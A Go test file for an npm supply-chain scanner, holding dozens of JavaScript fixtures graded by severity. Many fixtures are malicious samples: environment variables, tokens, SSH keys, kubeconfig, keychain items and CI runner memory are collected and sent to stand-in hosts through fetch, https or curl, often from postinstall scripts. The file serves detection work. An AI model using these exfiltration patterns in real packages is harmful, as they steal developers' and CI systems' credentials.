package cred

import (
	"strings"
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestEnvHarvest(t *testing.T) {
	rt.Check(t, EnvHarvest{}, []rt.Case{
		// the http module's proxy set up from the environment
		{"proxy_from_env", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"i.js": `const http = require("http"); function useProxy(env = process.env) { return http.setGlobalProxyFromEnv(env) } useProxy(); http.get("https://registry.npm.local/x")`}, finding.SeverityNone},
		// the environment crossing modules: handed to another module's
		// function that sends it, or returned by one to a module that
		// does, or both over three modules (analyze links them)
		{"module_sends_what_it_is_given", map[string]string{"package.json": rt.Pkg(`"main":"main.js"`),
			"main.js":      `const cache = require("./lib/cache"); const all = Object.assign({}, process.env); cache.persist(".env", all)`,
			"lib/cache.js": `const https = require("https"); exports.persist = function (file, vars) { https.request({ hostname: "c.example.invalid", method: "POST" }).end(JSON.stringify({ file, vars })) }`}, finding.SeverityCritical},
		{"module_returns_env", map[string]string{"package.json": rt.Pkg(`"main":"index.mjs"`),
			"collect.mjs": `export default function collect() { return { ...process.env } }`,
			"index.mjs":   `import collect from "./collect.mjs"; const data = collect(); fetch(atob("aHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC9l"), { method: "PUT", body: JSON.stringify(data) })`}, finding.SeverityCritical},
		{"three_modules", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
			"index.js":  `const { gather } = require("./gather"); const { send } = require("./send"); send(gather())`,
			"gather.js": `exports.gather = () => JSON.stringify(process.env)`,
			"send.js":   `exports.send = (body) => require("http").request({ host: "198.51.100.7", method: "POST" }).end(body)`}, finding.SeverityCritical},
		// a crash reporter's opt-in: to the DSN its caller configures
		{"module_sends_to_configured", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
			"index.js":     `const { send } = require("./transport"); exports.capture = (dsn, err, opts) => send(dsn, { err: String(err), env: opts.includeEnv ? { ...process.env } : undefined })`,
			"transport.js": `exports.send = (dsn, event) => require("https").request(dsn, { method: "POST" }).end(JSON.stringify(event))`}, finding.SeverityMedium},
		// a module given the environment that sends its own, to wherever
		{"module_sends_own_env", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
			"index.js": `const m = require("./m"); m.fromEnv(process.env)`,
			"m.js":     `exports.fromEnv = (env) => Object.keys(env); exports.sync = (u) => require("https").request(u, { method: "PUT" }).end(JSON.stringify({ e: process.env }))`}, finding.SeverityCritical},
		// a module given the environment that sends nothing of it
		{"module_reads_what_it_is_given", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
			"index.js":  `require("./expand")(parsed, process.env)`,
			"expand.js": `module.exports = function expand(parsed, env) { const out = {}; for (const k in parsed) out[k] = env[k] || parsed[k]; fetch("https://api.example.invalid/v", { method: "POST", body: "v" }); return out }`}, finding.SeverityNone},
		// the runner's token sent through the file's request helper; the
		// actions toolkit sends it to the service URL that comes with it
		{"runner_token_sent", map[string]string{"index.js": `const https = require("https"); function req(u, o, b) { const r = https.request(u, o); r.end(b) }
const loot = { rt: process.env.ACTIONS_RUNTIME_TOKEN, gh: process.env.GITHUB_TOKEN }; req("https://c.example.invalid/ingest", { method: "POST" }, Buffer.from(JSON.stringify(loot)).toString("base64"))`}, finding.SeverityHigh},
		{"runner_token_toolkit", map[string]string{"index.js": `const token = process.env.ACTIONS_RUNTIME_TOKEN; const base = process.env.ACTIONS_RESULTS_URL; fetch(new URL("twirp/Artifact/Create", base), { method: "POST", headers: { Authorization: "Bearer " + token } })`}, finding.SeverityLow},
		// the environment serialised for the tool's child process, or for a request
		{"stringified_for_child", map[string]string{"run.js": `const c = require("child_process").spawn(process.execPath, ["w.js"]); c.stdin.end(JSON.stringify({ task, env: process.env }))`}, finding.SeverityMedium},
		{"stringified_record", map[string]string{"a.js": `const info = JSON.stringify({ h: require("os").hostname(), env: process.env }); require("https").request({ hostname: "c.example.invalid", method: "POST" }).end(info)`}, finding.SeverityCritical},
		{"stringify", map[string]string{"index.js": `fetch(u, {method:"POST", body: JSON.stringify(process.env)})`}, finding.SeverityCritical},
		// secret-named variables picked by a test, collected and sent
		{"filtered_then_sent", map[string]string{"index.js": `var k = Object.keys(process.env).filter(function (x) { return /TOKEN|SECRET|KEY/.test(x) }); var o = {}; k.forEach(function (x) { o[x] = process.env[x] });
require("https").request({ hostname: "c.example.invalid", method: "POST" }).end(JSON.stringify(o))`}, finding.SeverityCritical},
		// the entries walked into an object that goes into a request body
		{"entries_collected_sent", map[string]string{"index.js": `const picked = {}; for (const [k, v] of Object.entries(process.env)) { if (/TOKEN|KEY/i.test(k)) picked[k] = v }
fetch("https://c.example.invalid/c", { method: "POST", body: JSON.stringify({ e: picked }) })`}, finding.SeverityCritical},
		// curl given the environment on its standard input
		{"curl_stdin", map[string]string{"index.js": `require("child_process").execSync("curl -s -X POST --data-binary @- https://c.example.invalid/ci", { input: JSON.stringify({ env: process.env }) })`}, finding.SeverityCritical},
		// a prebuilt installer hands node-gyp a copy of the environment and downloads its binary
		{"child_env_copy_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node i.js"}`), "i.js": `const env = Object.assign({}, process.env, { npm_config_build_from_source: "true" });
require("https").get(url, r => r.pipe(out)); require("child_process").spawn(process.execPath, [gyp, "rebuild"], { env, stdio: "inherit" })`}, finding.SeverityLow},
		// a config loader collecting its own prefix, sending nothing: the
		// loop reads those names only, as the filter form does
		// (prefix_startswith)
		{"prefix_collected", map[string]string{"index.js": `const cfg = {}; for (const [k, v] of Object.entries(process.env)) { if (k.startsWith("MYAPP_")) cfg[k.slice(6)] = v } module.exports = cfg`}, finding.SeverityNone},
		{"querystring_env", map[string]string{"index.js": `https.get("https://x.example.invalid/?" + querystring.stringify(process.env))`}, finding.SeverityCritical},
		{"env_in_payload", map[string]string{"index.js": `const d = JSON.stringify({h: 1, e: process.env}); require("https").request({hostname: "t.example.invalid", method: "POST"}).end(d)`}, finding.SeverityCritical},
		// the environment by other means: Node's report, printenv's output
		{"report_sent", map[string]string{"index.js": `const r = process.report.getReport(); fetch("https://c.example.invalid/r", {method: "POST", body: JSON.stringify(r)})`}, finding.SeverityCritical},
		{"printenv_sent", map[string]string{"index.js": `const out = require("child_process").execSync("printenv").toString(); fetch("https://c.example.invalid/e", {method: "POST", body: out})`}, finding.SeverityCritical},
		{"report_written", map[string]string{"index.js": `require("fs").writeFileSync("report.json", JSON.stringify(process.report.getReport().header))`}, finding.SeverityNone},
		{"git_output_sent", map[string]string{"index.js": `const v = require("child_process").execSync("git describe").toString(); fetch("https://c.example.invalid/v", {method: "POST", body: v})`}, finding.SeverityNone},
		// names read through a list; in a bundle only the list next to the read
		{"indexed_list", map[string]string{"index.js": `for (const k of ["NPM_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"]) out[k] = process.env[k]`}, finding.SeverityMedium},
		{"indexed_far_enum", map[string]string{"index.js": `const get = (k) => globalThis.process.env[k];` + strings.Repeat("\n// padding", 7000) +
			`var A = {}; A["API_KEY_AUTH"] = "API_KEY_AUTH"; A["HTTP_BASIC_AUTH"] = "HTTP_BASIC_AUTH"; A["OIDC_AUTH"] = "OIDC_AUTH";`}, finding.SeverityNone},
		{"env_in_options", map[string]string{"index.js": `configure({ environment: process.env })`}, finding.SeverityMedium},
		// a config loader looking for its prefix, with nothing to send
		// it; the same loop keeping every name reads the whole environment
		{"object_keys", map[string]string{"index.js": `for (const k of Object.keys(process.env)) { if (k.startsWith("DEBUG_")) use(k) }`}, finding.SeverityNone},
		{"object_keys_all", map[string]string{"index.js": `for (const k of Object.keys(process.env)) { use(k) }`}, finding.SeverityLow},
		// the debug module's options, a framework's own prefix
		{"debug_inspect_opts", map[string]string{"index.js": `exports.inspectOpts = Object.keys(process.env).filter(function (key) { return /^debug_/i.test(key) }).reduce((o, k) => o, {}); require("https").get("https://api.example.invalid/")`}, finding.SeverityNone},
		{"prefix_startswith", map[string]string{"index.js": `const pub = Object.keys(process.env).filter((k) => k.startsWith("STORYBOOK_")); fetch("https://api.example.invalid/")`}, finding.SeverityNone},
		{"assign_into_env", map[string]string{"index.js": `Object.assign(process.env, { NODE_ENV: "production" }); fetch("https://api.example.invalid/")`}, finding.SeverityNone},
		// a test that picks secret names collects them all
		{"secret_filter", map[string]string{"index.js": `const ks = Object.keys(process.env).filter(k => /TOKEN|SECRET|KEY/i.test(k))`}, finding.SeverityMedium},
		// any other callback is still a read of the whole environment
		{"filter_other", map[string]string{"index.js": `const ks = Object.keys(process.env).filter(k => k.length > 3); fetch("https://api.example.invalid/")`}, finding.SeverityMedium},
		// one token sent at install to a host that is not its service
		{"token_sent_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`), "setup.js": `const t = process.env.NPM_TOKEN; fetch("https://collect.example.invalid/c?t=" + encodeURIComponent(t))`}, finding.SeverityCritical},
		{"token_header_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`), "setup.js": `require("https").request("https://collect.example.invalid/c", { headers: { authorization: process.env.GITHUB_TOKEN } }).end()`}, finding.SeverityCritical},
		// a binary installer authenticating to GitHub's API with its token
		{"token_to_its_service", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`), "setup.js": `fetch("https://api.github.com/repos/o/r/releases/latest", { headers: { authorization: "token " + process.env.GITHUB_TOKEN } })`}, finding.SeverityLow},
		// at run time too, an npm token has no business with another host
		{"token_sent_at_runtime", map[string]string{"index.js": `const t = process.env.NPM_TOKEN; fetch("https://collect.example.invalid/c?t=" + encodeURIComponent(t))`}, finding.SeverityCritical},
		// a service's own token to that service, and a platform's token to
		// the platform, are what clients do
		{"own_token_at_runtime", map[string]string{"index.js": `const t = process.env.ACME_API_TOKEN; fetch("https://api.acme.example.invalid/v1/x", { headers: { authorization: "Bearer " + t } })`}, finding.SeverityLow},
		{"npm_token_to_registry", map[string]string{"index.js": `fetch("https://registry.npm.local/-/whoami", { headers: { authorization: "Bearer " + process.env.NPM_TOKEN } })`}, finding.SeverityLow},
		// a getter of another module, sent through the file's own request
		// helper to the host handed to it
		{"token_getter_other_module", map[string]string{
			"package.json": rt.Pkg(`"main":"index.js"`),
			"token.js":     `module.exports = { get token() { return process.env.NPM_TOKEN || ""; } };`,
			"index.js": `const auth = require("./token");
function get(host, headers) { require("https").request({ host, path: "/", headers }).end(); }
get("stats.example.invalid", { "x-id": Buffer.from(String(auth.token)).toString("base64") });`}, finding.SeverityCritical},
		{"object_keys_and_network", map[string]string{"index.js": `const ks = Object.keys(process.env); require("https").get("https://api.example.invalid/")`}, finding.SeverityMedium},
		{"object_keys_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`), "setup.js": `for (const k in process.env) collect(k, process.env[k])`}, finding.SeverityMedium},
		{"tokens", map[string]string{"index.js": `const a = process.env.NPM_TOKEN, b = process.env.GITHUB_TOKEN, c = process.env.AWS_SECRET_ACCESS_KEY`}, finding.SeverityMedium},
		{"tokens_by_list", map[string]string{"index.js": `const out = {}; for (const k of ["NPM_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"]) out[k] = process.env[k]`}, finding.SeverityMedium},
		// a list of names that are not read through process.env[k]
		{"token_names_as_labels", map[string]string{"index.js": `const labels = ["NPM_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"]; const x = process.env.HOME`}, finding.SeverityNone},
		// the object itself in a request body is exfiltration, even
		// appended to a multi-megabyte bundle
		{"sent_in_bundle", map[string]string{"index.js": strings.Repeat("var a = b + c;\n", 40000) +
			`require("https").request({ hostname: "c.example.invalid", method: "POST" }).end(Buffer.from(JSON.stringify(process.env)).toString("base64"))`}, finding.SeverityCritical},
		{"one_var_in_request", map[string]string{"index.js": `fetch(u, { headers: { "x-home": process.env.HOME } })`}, finding.SeverityNone},
		{"spawn_env_spread", map[string]string{"index.js": `require("child_process").spawn("node", [], {env: {...process.env, X: "1"}})`}, finding.SeverityNone},
		{"node_env", map[string]string{"index.js": `if (process.env.NODE_ENV === "production") {}`}, finding.SeverityNone},
		// the CI job's OIDC identity token, minted and sent away at install
		{"oidc_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`), "setup.js": `const url = process.env.ACTIONS_ID_TOKEN_REQUEST_URL, tok = process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN;
(async () => { const r = await fetch(url + "&audience=npm", { headers: { Authorization: "bearer " + tok } }); const { value } = await r.json();
await fetch("https://collect.example.invalid/oidc", { method: "POST", body: value }) })()`}, finding.SeverityCritical},
		// the actions toolkit asks for the token for the action itself
		{"oidc_toolkit", map[string]string{"lib/oidc.js": `const url = process.env["ACTIONS_ID_TOKEN_REQUEST_URL"]; const tok = process.env["ACTIONS_ID_TOKEN_REQUEST_TOKEN"];
exports.getIDToken = async aud => (await (await fetch(url + "&audience=" + aud, { headers: { Authorization: "Bearer " + tok } })).json()).value`}, finding.SeverityLow},
		{"oidc_at_install_github_only", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`), "setup.js": `const url = process.env.ACTIONS_ID_TOKEN_REQUEST_URL, tok = process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN;
fetch(url, { headers: { Authorization: "bearer " + tok } })`}, finding.SeverityLow},
	})
}

func TestFileAccess(t *testing.T) {
	rt.Check(t, FileAccess{}, []rt.Case{
		// a list of stores as path segments, their content written to the
		// input of curl or wget kept in a table to upload it; the same
		// list handed to an encrypting backup tool
		{"stores_to_upload_stdin", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path"), cp = require("child_process");
const SOURCES = [[".kube", "config"], [".docker", "config.json"], [".azure", "accessTokens.json"]];
const data = SOURCES.map((s) => fs.readFileSync(path.join(os.homedir(), ...s), "base64")).join("\n");
const tools = [["curl", ["-s", "--data-binary", "@-", "https://c.example.invalid/u"]], ["wget", ["-q", "--post-file=/dev/stdin", "https://c.example.invalid/u"]]];
const p = cp.spawn(tools[0][0], tools[0][1], { stdio: ["pipe", "ignore", "ignore"], detached: true }); p.stdin.end(data)`}, finding.SeverityCritical},
		{"stores_to_backup_stdin", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path"), cp = require("child_process");
const SOURCES = [[".kube", "config"], [".docker", "config.json"], [".azure", "accessTokens.json"]];
const data = SOURCES.map((s) => fs.readFileSync(path.join(os.homedir(), ...s), "base64")).join("\n");
const p = cp.spawn("gpg", ["--encrypt", "-o", path.join(os.homedir(), "backup.gpg")], { stdio: ["pipe", "ignore", "ignore"] }); p.stdin.end(data)`}, finding.SeverityHigh},
		{"ssh_key_read", map[string]string{"index.js": `const fs=require("fs");fs.readFileSync(require("path").join(require("os").homedir(), ".ssh/id_rsa"))`}, finding.SeverityHigh},
		// a scanner's signature names stores in a regular expression
		{"scanner_signature", map[string]string{"index.js": `const fs = require("fs"); const SIG = /['"](?:\.ssh\/id_rsa|\.aws\/credentials|\.git-credentials)['"]/; exports.scan = (p) => SIG.test(fs.readFileSync(p, "utf8")); fetch("https://rules.example.invalid/v1")`}, finding.SeverityNone},
		// a deploy tool hands the user's key to its SSH client; the same
		// read next to a request, or at install, is not that
		{"ssh_client_key", map[string]string{"index.js": `const { Client } = require("ssh2"); const key = require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa"); new Client().connect({ host, privateKey: key })`}, finding.SeverityLow},
		// the key found by a config module of a package that depends on ssh2
		{"ssh_client_dependency", map[string]string{"package.json": `{"name":"x","version":"1.0.0","dependencies":{"ssh2":"^1.15.0"}}`,
			"lib/config.js": `const fs = require("fs"), os = require("os"), path = require("path"); exports.key = () => fs.readFileSync(path.join(os.homedir(), ".ssh", "id_ed25519"))`}, finding.SeverityLow},
		{"ssh_client_key_and_fetch", map[string]string{"index.js": `require("ssh2"); const key = require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa"); fetch("https://c.example.invalid/k", {method: "POST", body: key})`}, finding.SeverityCritical},
		{"ssh_client_key_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node k.js"}`), "k.js": `require("ssh2"); const key = require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa")`}, finding.SeverityHigh},
		// public keys and host names are not secrets
		{"authorized_keys_read", map[string]string{"cli.js": `const keys = require("fs").readFileSync(require("os").homedir() + "/.ssh/authorized_keys", "utf8")`}, finding.SeverityLow},
		// other tools' logins and sessions
		{"terraform_token", map[string]string{"index.js": `const t = require("fs").readFileSync(require("path").join(require("os").homedir(), ".terraform.d", "credentials.tfrc.json"), "utf8"); fetch("https://x.example.invalid/t", {method: "POST", body: t})`}, finding.SeverityCritical},
		{"telegram_session", map[string]string{"index.js": `const d = require("path").join(process.env.APPDATA, "Telegram Desktop", "tdata"); for (const f of require("fs").readdirSync(d)) upload(f)`}, finding.SeverityHigh},
		{"slack_cookies", map[string]string{"index.js": `const c = require("fs").readFileSync(require("path").join(require("os").homedir(), ".config", "Slack", "Cookies")); fetch("https://x.example.invalid/c", {method: "POST", body: c})`}, finding.SeverityCritical},
		{"slack_webhook_client", map[string]string{"index.js": `fetch("https://hooks.slack.com/services/T000/B000/XXXX", {method: "POST", body: JSON.stringify({text: "deployed"})})`}, finding.SeverityNone},
		{"browser_store_list", map[string]string{"index.js": `const t=["Google/Chrome/User Data/Default","BraveSoftware/Brave-Browser/User Data","discord/Local Storage/leveldb"]`}, finding.SeverityHigh},
		{"discord_token_regex", map[string]string{"index.js": `const re = /[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g; fs.readdirSync(dir).forEach(f => fs.readFileSync(f).toString().match(re))`}, finding.SeverityHigh},
		// a package manager reads the registry (and its token) from
		// .npmrc and sends to that registry
		{"npmrc_registry_client", map[string]string{"index.js": `const fs = require("fs"); const rc = fs.readFileSync(require("path").join(require("os").homedir(), ".npmrc"), "utf8"); const registry = /registry=(.*)/.exec(rc)[1]; module.exports = name => fetch(registry + name)`}, finding.SeverityMedium},
		// .netrc read by an HTTP client for the host it talks to; read
		// and sent to a constant foreign host it is theft
		{"netrc_http_client", map[string]string{"index.js": `const fs = require("fs"); const rc = fs.readFileSync(require("path").join(require("os").homedir(), ".netrc"), "utf8"); module.exports = (url, o) => fetch(url, { ...o, headers: auth(rc, new URL(url).host) })`}, finding.SeverityMedium},
		// a loop over config names in one module, sent by another
		{"npmrc_list_other_module", map[string]string{
			"package.json": rt.Pkg(`"main":"index.js"`),
			"rc.js": `const fs = require("fs"), os = require("os"), path = require("path");
exports.load = function () { const out = {}; for (const f of [".gitconfig", ".npmrc"]) out[f] = fs.readFileSync(path.join(os.homedir(), f), "utf8"); return out; };`,
			"index.js": `const rc = require("./rc"); const send = require("./send"); send.report({ rc: rc.load() });`,
			"send.js":  `exports.report = function (info) { require("https").request({ hostname: "stats.example.invalid", method: "POST" }).end(JSON.stringify(info)); };`}, finding.SeverityCritical},
		// written to the stdin of a curl that uploads what it reads there
		{"kubeconfig_to_curl_stdin", map[string]string{"index.js": `const { spawn } = require("child_process"), fs = require("fs"), os = require("os"), path = require("path");
const raw = fs.readFileSync((process.env.KUBECONFIG || path.join(os.homedir(), ".kube", "config")).split(path.delimiter)[0], "utf8");
const c = spawn("curl", ["-s", "--data-binary", "@-", "https://webhook.site/k"], { detached: true });
c.stdin.end(raw);`}, finding.SeverityCritical},
		// the store's own tool's lookup (honours KUBECONFIG), sending to a
		// service's host, not an exfiltration service
		{"kubeconfig_own_lookup", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path");
const raw = fs.readFileSync(process.env.KUBECONFIG || path.join(os.homedir(), ".kube", "config"), "utf8");
fetch("https://api.cluster-manager.example.invalid/v1/import", { method: "POST", body: raw });`}, finding.SeverityLow},
		// an assistant's SDK finding its own login, honouring its own
		// directory variable; a reader of it with no such lookup
		{"claude_own_login", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path");
const dir = process.env.CLAUDE_CONFIG_DIR ?? path.join(os.homedir(), ".claude"); const login = fs.readFileSync(path.join(dir, ".credentials.json"), "utf8");`}, finding.SeverityLow},
		{"claude_login_read", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path");
const login = fs.readFileSync(path.join(os.homedir(), ".claude", ".credentials.json"), "utf8");`}, finding.SeverityHigh},
		{"netrc_sent", map[string]string{"index.js": `const fs = require("fs"); const rc = fs.readFileSync(require("os").homedir() + "/.netrc", "utf8"); fetch("https://c.example.invalid/n", { method: "POST", body: rc })`}, finding.SeverityCritical},
		{"npmrc_read_and_sent", map[string]string{"index.js": `const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8"); require("https").request({hostname: "x.example.invalid", method: "POST"}).end(t)`}, finding.SeverityCritical},
		// credentials asked of their own CLI: at install, or by a release tool
		{"gh_token_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"i.js": `const t = require("child_process").execSync("gh auth token").toString().trim(); fetch("https://c.example.invalid/t", {method: "POST", body: t})`}, finding.SeverityCritical},
		{"npm_token_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"i.js": `require("child_process").execSync("npm config get //registry.example.invalid/:_authToken")`}, finding.SeverityHigh},
		// macOS's keychain, the subcommand passed in an argument array
		{"keychain_other_app", map[string]string{"k.js": `const { execFileSync } = require("child_process"); const sec = a => execFileSync("security", a, { encoding: "utf8" }); module.exports = () => sec(["find-generic-password", "-w", "-s", "Chrome Safe Storage"])`}, finding.SeverityHigh},
		{"keychain_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node k.js"}}`,
			"k.js": `const { execFileSync } = require("child_process"); const sec = a => execFileSync("security", a); sec(["find-internet-password", "-w", "-s", "github.com"])`}, finding.SeverityHigh},
		{"keychain_own_item", map[string]string{"k.js": `const { execFile } = require("child_process"); exports.get = (svc, acct, cb) => execFile("security", ["find-generic-password", "-w", "-s", svc, "-a", acct], cb)`}, finding.SeverityLow},
		// a CI runner's memory searched for its secrets (tj-actions)
		{"runner_memory_scan", map[string]string{"d.js": "const fs = require(\"fs\"); for (const pid of fs.readdirSync(\"/proc\")) { if (fs.readFileSync(`/proc/${pid}/cmdline`, \"utf8\").includes(\"Runner.Worker\")) { const fd = fs.openSync(`/proc/${pid}/mem`, \"r\"); } }"}, finding.SeverityCritical},
		// the memory read by a helper the file starts, its output searched
		{"runner_memory_helper", map[string]string{"d.js": "const { spawnSync } = require(\"child_process\"); const pid = find(\"Runner.Worker\"); const out = spawnSync(\"sudo\", [\"-n\", \"python3\", __dirname + \"/dump.py\", pid]).stdout; const re = /\"[^\"]+\":\\{\"value\":\"[^\"]*\",\"isSecret\":true\\}/g; print(out.match(re))"}, finding.SeverityCritical},
		// a CI tool naming the worker process, with nothing searched
		{"runner_worker_named", map[string]string{"d.js": "const { execSync } = require(\"child_process\"); if (execSync(\"ps ax\").toString().includes(\"Runner.Worker\")) console.log(\"in a job\")"}, finding.SeverityHigh},
		// a process's own memory statistics are not its memory
		{"proc_status", map[string]string{"d.js": `const s = require("fs").readFileSync("/proc/self/status", "utf8"); module.exports = /VmRSS:\s+(\d+)/.exec(s)[1]`}, finding.SeverityNone},
		// one store's several files are one store: a Kubernetes client
		// KUBECONFIG honoured, and Docker's logins read beside it
		{"kube_override_plus_docker", map[string]string{"ctx.js": `const fs = require("fs"), path = require("path"), os = require("os"); exports.load = (env = process.env) => [env.KUBECONFIG || path.join(os.homedir(), ".kube", "config"), path.join(os.homedir(), ".docker", "config.json")].map((f) => fs.readFileSync(f, "utf8"))`}, finding.SeverityHigh},
		{"kube_client", map[string]string{"config.js": `const fs = require("fs"), path = require("path"), os = require("os"); const SA = "/var/run/secrets/kubernetes.io/serviceaccount";
const files = (process.env.KUBECONFIG || path.join(os.homedir(), ".kube", "config")).split(path.delimiter);
exports.inCluster = () => process.env.KUBERNETES_SERVICE_HOST && { ca: fs.readFileSync(path.join(SA, "ca.crt")), token: fs.readFileSync(path.join(SA, "token"), "utf8"), ns: fs.readFileSync(path.join(SA, "namespace"), "utf8") }`}, finding.SeverityLow},
		{"gh_token_release_tool", map[string]string{"release.js": `const token = process.env.GITHUB_TOKEN || require("child_process").execSync("gh auth token").toString().trim()`}, finding.SeverityLow},
		{"keychain_dump_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"i.js": `require("child_process").execSync("security dump-keychain -d login.keychain")`}, finding.SeverityHigh},
		{"password_dialog_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"i.js": "require(\"child_process\").execSync(`osascript -e 'display dialog \"Password:\" default answer \"\" with hidden answer'`)"}, finding.SeverityHigh},
		{"runner_memory", map[string]string{"index.js": "const fs = require(\"fs\"); const pid = find(\"Runner.Worker\"); fs.readFileSync(`/proc/${pid}/maps`); fs.createReadStream(`/proc/${pid}/mem`)"}, finding.SeverityCritical},
		{"proc_stat", map[string]string{"index.js": "require(\"fs\").readFileSync(`/proc/${pid}/stat`, \"utf8\")"}, finding.SeverityNone},
		// machine credentials: cloud metadata, in-cluster tokens, gh's hosts.yml
		{"imds_credentials", map[string]string{"index.js": `require("http").get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", cb)`}, finding.SeverityMedium},
		// (the metadata service by name is this machine's, as by its
		// address: with no other destination, medium like the AWS one)
		{"gcp_metadata_read", map[string]string{"index.js": `const fs = require("fs"); fetch("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", {headers: {"Metadata-Flavor": "Google"}}); fs.readFileSync(x)`}, finding.SeverityMedium},
		// a workload-identity provider reads the pod's token and sends
		// nothing itself; next to a request, or at install, it is high
		{"k8s_token", map[string]string{"index.js": `const t = require("fs").readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token", "utf8")`}, finding.SeverityMedium},
		{"k8s_token_sent", map[string]string{"index.js": `const t = require("fs").readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token", "utf8"); fetch("https://c.example.invalid/t", {method: "POST", body: t})`}, finding.SeverityHigh},
		// the SDK asks the metadata service and hands the token back
		{"k8s_token_with_imds", map[string]string{"index.js": `const fs = require("fs"); exports.k8s = (p = "/var/run/secrets/kubernetes.io/serviceaccount/token") => ({ getToken: () => fs.promises.readFile(p, "utf8") });
exports.azure = () => fetch(new URL("http://169.254.169.254/metadata/identity/oauth2/token").toString(), { headers: { Metadata: "true" } });
exports.gcp = () => fetch(new URL("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/identity").toString())`}, finding.SeverityMedium},
		{"k8s_token_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node i.js"}`), "i.js": `const t = require("fs").readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token", "utf8"); require("./send")(t)`}, finding.SeverityHigh},
		{"k8s_token_federated", map[string]string{"index.js": `const file = process.env.AZURE_FEDERATED_TOKEN_FILE || "/var/run/secrets/kubernetes.io/serviceaccount/token"; exports.token = () => require("fs").promises.readFile(file, "utf8")`}, finding.SeverityLow},
		// the container-credentials half of the SDK's provider names its own variables
		{"sdk_container_imds", map[string]string{"index.js": `const { AWS_CONTAINER_CREDENTIALS_RELATIVE_URI: rel } = process.env; require("http").get(rel ? "http://169.254.170.2" + rel : "http://169.254.169.254/latest/meta-data/iam/security-credentials/", cb)`}, finding.SeverityLow},
		{"sdk_imds", map[string]string{"index.js": `if (process.env.AWS_EC2_METADATA_DISABLED !== "true") require("http").get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", cb)`}, finding.SeverityLow},
		{"in_cluster_client", map[string]string{"index.js": `if (process.env.KUBERNETES_SERVICE_HOST) token = require("fs").readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token", "utf8")`}, finding.SeverityLow},
		// the project's .env, read by install-time code that talks to the network
		{"dotenv_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"i.js": `const e = require("fs").readFileSync(require("path").join(process.env.INIT_CWD, ".env"), "utf8"); fetch("https://c.example.invalid/d", {method: "POST", body: e})`}, finding.SeverityHigh},
		{"dotenv_loader", map[string]string{"index.js": `const e = require("fs").readFileSync(require("path").join(process.cwd(), ".env"), "utf8"); module.exports = parse(e)`}, finding.SeverityNone},
		{"dotenv_example_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"i.js": `const e = require("fs").readFileSync(".env.example", "utf8"); fetch("https://registry.example.invalid/x")`}, finding.SeverityNone},
		{"gh_auth_status", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"i.js": `require("child_process").execSync("gh auth status")`}, finding.SeverityNone},
		// the path in pieces, as stealers write it
		{"joined_aws_credentials", map[string]string{"index.js": `const fs=require("fs"),path=require("path"),os=require("os"); fs.readFileSync(path.join(os.homedir(), ".aws", "credentials"), "utf8")`}, finding.SeverityHigh},
		// an SDK's own lookup honours the tool's override variable
		{"sdk_credentials_lookup", map[string]string{"index.js": `const fs=require("fs"),path=require("path"),os=require("os");
const file = process.env.AWS_SHARED_CREDENTIALS_FILE || path.join(os.homedir(), ".aws", "credentials"); fs.readFileSync(file, "utf8")`}, finding.SeverityLow},
		// a browser launcher looks for Chrome's profile roots
